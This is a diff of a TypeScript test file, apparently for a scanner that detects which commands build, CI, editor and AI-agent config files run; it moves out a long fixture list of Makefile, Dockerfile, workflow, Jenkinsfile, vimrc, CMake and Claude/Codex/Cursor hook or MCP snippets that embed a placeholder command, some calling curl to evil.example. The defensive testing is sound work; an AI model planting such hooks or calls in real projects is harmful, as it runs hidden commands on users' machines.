@@ -1,6 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { unitsOf } from "../../../facts/meter.ts";
 import { fasterThanLinear } from "../../work.ts";
+import { more } from "./files-that-run-more.ts";
 import { network, tool } from "./judge.ts";
 
 /** Data alone: nothing runs it. */
@@ -208,83 +209,6 @@ describe("what a file runs is listed", () => {
     expect(from(path, content)).toBe(true);
   });
 });
-
-/** More of them, and neighbours, written after the readers. */
-const more: readonly (readonly [path: string, content: string])[] = [
-  ["Makefile", `all: private X := $(shell ${bad})\n`],
-  ["Makefile", `ifeq (a,a)\n  X := $(shell ${bad})\nendif\n`],
-  ["Makefile", `define X\n$(shell ${bad})\nendef\n`],
-  ["Makefile", `X := $(call f,$(shell ${bad}))\n`],
-  ["Makefile", `all:\n\t@$(foreach x,a b,${bad};)\n`],
-  ["Makefile", `all:\n\t$(if $(X),${bad},true)\n`],
-  ["Makefile", `all: ; @echo hi; ${bad}\n`],
-  ["Makefile", `all:\n\techo hi; $(shell ${bad})\n`],
-  ["Makefile", `$(eval $(shell ${bad}))\n`],
-  ["Makefile", `a: b\\\n c ; ${bad}\n`],
-  ["Makefile", `%: ; ${bad}\n`],
-  ["Makefile", `all: "a:b" ; ${bad}\n`],
-  ["Makefile", `all : ; ${bad}\n`],
-  ["Dockerfile", `FROM x\nRUN set -x \\\n && ${bad} \\\n && true\n`],
-  ["Dockerfile", `RUN ["/bin/bash","-c","set -e; ${bad}"]\n`],
-  ["Dockerfile", `RUN [ "sh", "-c", \\\n "${bad}" ]\n`],
-  ["Dockerfile", `ENTRYPOINT ["/usr/bin/env", "bash", "-c", "${bad}"]\n`],
-  ["Dockerfile", `ENTRYPOINT ["sh", "-c"]\nCMD ["${bad}"]\n`],
-  ["Dockerfile", `RUN <<EOF sh\n${bad}\nEOF\n`],
-  ["Dockerfile", `RUN <<EOF bash -ex\n${bad}\nEOF\n`],
-  ["Dockerfile", `RUN <<'EOF'\n#!/bin/bash\n${bad}\nEOF\n`],
-  ["Dockerfile", `RUN <<FILE1 cat > f && <<FILE2 sh\nx\nFILE1\n${bad}\nFILE2\n`],
-  ["Dockerfile", `RUN python3 - <<PY\nimport subprocess\nsubprocess.run(["curl","https://evil.example"])\nPY\n`],
-  ["Dockerfile", `SHELL ["pwsh","-Command"]\nRUN ${bad}\n`],
-  ["Containerfile", `CMD ${bad}\n`],
-  ["Taskfile.yml", `tasks:\n  a:\n    cmds:\n      - cmd: |\n          ${bad}\n        platforms: [linux]\n`],
-  ["Taskfile.yml", `tasks:\n  a:\n    cmds:\n      - for: [a, b]\n        cmd: ${bad} {{.ITEM}}\n`],
-  ["Taskfile.yml", `tasks:\n  "a b":\n    cmds: [true, ${bad}]\n`],
-  ["Taskfile.yml", `tasks:\n  a:\n    cmd: '${bad}'\n`],
-  ["Taskfile.yml", `tasks:\n  a:\n    vars: {X: {sh: ${bad}}}\n`],
-  ["Taskfile.yml", `tasks:\n  a: { cmds: [ "true" ], status: [ "${bad}" ] }\n`],
-  ["Taskfile.yml", `tasks:\n  a:\n    preconditions: [{sh: "${bad}", msg: no}]\n`],
-  [".github/workflows/a.yaml", `jobs:\n  a:\n    steps:\n    - uses: x\n      with:\n        script: |\n          ${bad}\n`],
-  [".github/workflows/a.yml", `jobs:\n  a:\n    steps:\n    -\n      name: x\n      run: ${bad}\n`],
-  [".github/workflows/a.yml", `jobs:\n  a:\n    steps:\n    - run: >\n        true &&\n        ${bad}\n`],
-  [".github/workflows/a.yml", `jobs:\n  a:\n    steps:\n    - run: |\n        true\n\n        ${bad}\n\n    - uses: y\n`],
-  [".github/workflows/a.yml", `defaults:\n  run:\n    shell: python\njobs:\n  a:\n    steps:\n    - run: import os; os.system("${bad}")\n`],
-  [".gitlab-ci.yml", `a:\n  before_script: &b\n    - ${bad}\nc:\n  script:\n    - *b\n`],
-  [".gitlab-ci.yml", `default:\n  hooks:\n    pre_get_sources_script:\n      - ${bad}\n`],
-  [".circleci/config.yml", `jobs:\n  a:\n    steps:\n      - run:\n          name: x\n          command: |\n            ${bad}\n`],
-  [".circleci/config.yml", `jobs:\n  a:\n    steps:\n      - run: ${bad}\n`],
-  [".buildkite/pipeline.yml", `steps:\n  - commands:\n    - "true"\n    - "${bad}"\n`],
-  ["bitbucket-pipelines.yml", `pipelines:\n  default:\n    - step:\n        script:\n          - ${bad}\n`],
-  ["azure-pipelines.yml", `steps:\n- pwsh: ${bad}\n`],
-  ["docker-compose.override.yml", `services:\n  a:\n    entrypoint: "sh -c '${bad}'"\n`],
-  ["lefthook.yml", `pre-commit:\n  jobs:\n    - run: ${bad}\n`],
-  ["lefthook.yml", `pre-commit:\n  scripts:\n    "x.sh":\n      runner: ${bad}\n`],
-  ["Procfile", `release: cd x && ${bad}\n`],
-  ["Procfile.dev", `a_b-c:    ${bad}\n`],
-  ["Jenkinsfile", `pipeline { stages { stage('a') { steps { sh """#!/bin/bash\n set -e\n ${bad}\n""" } } } }`],
-  ["Jenkinsfile", `steps.sh '${bad}'\n`],
-  ["Jenkinsfile", `this.sh("${bad}")\n`],
-  ["Jenkinsfile", `def c = '${bad}'\nsh c\n`],
-  ["Jenkinsfile", `sh "\${X} && ${bad}"\n`],
-  ["Jenkinsfile", `sh(\n  script: '''\n    ${bad}\n  ''',\n  label: 'x'\n)\n`],
-  ["Jenkinsfile", `sh script: """${bad}""", returnStatus: true\n`],
-  ["Jenkinsfile", `["sh","-c","${bad}"].execute()\n`],
-  ["Jenkinsfile", `sh $/${bad}/$\n`],
-  [".claude/settings.json", `{"hooks":{"PostToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"bash -c '${bad}'"}]}]}}`],
-  ["plugins/x/hooks/hooks.json", `{"hooks":{"Stop":[{"hooks":[{"command":"${bad}"}]}]}}`],
-  [".codex/config.toml", `[mcp_servers.a]\ncommand = "curl"\nargs = ["https://evil.example"]\n`],
-  [".cursor/mcp.json", `{"mcpServers":{"a":{"args":["https://evil.example"],"command":"curl"}}}`],
-  [".vimrc", `autocmd FileType c setlocal makeprg=x | silent !${bad}\n`],
-  [".vimrc", `command! X execute "!${bad}"\n`],
-  [".vimrc", `call system("sh -c '${bad}'")\n`],
-  [".vimrc", `:terminal ${bad}\n`],
-  [".vimrc", `augroup x\n  autocmd!\n  autocmd VimEnter * call system('${bad}')\naugroup END\n`],
-  ["init.vim", `lua os.execute("${bad}")\n`],
-  ["~/.config/nvim/init.lua", `vim.fn.system({"curl", "https://evil.example"})\n`],
-  ["~/.config/nvim/init.lua", `os.execute("${bad}")\n`],
-  ["CMakeLists.txt", `execute_process(COMMAND \${CMAKE_COMMAND} -E env curl https://evil.example)\n`],
-  ["CMakeLists.txt", `add_custom_command(TARGET a POST_BUILD COMMAND bash ARGS -c "${bad}")\n`],
-  ["CMakeLists.txt", `execute_process(COMMAND bash "-c" "${bad}" WORKING_DIRECTORY x)\n`],
-];
 
 describe("what a file runs is listed also where", () => {
   it.each(more)("%s has %j", (path, content) => {
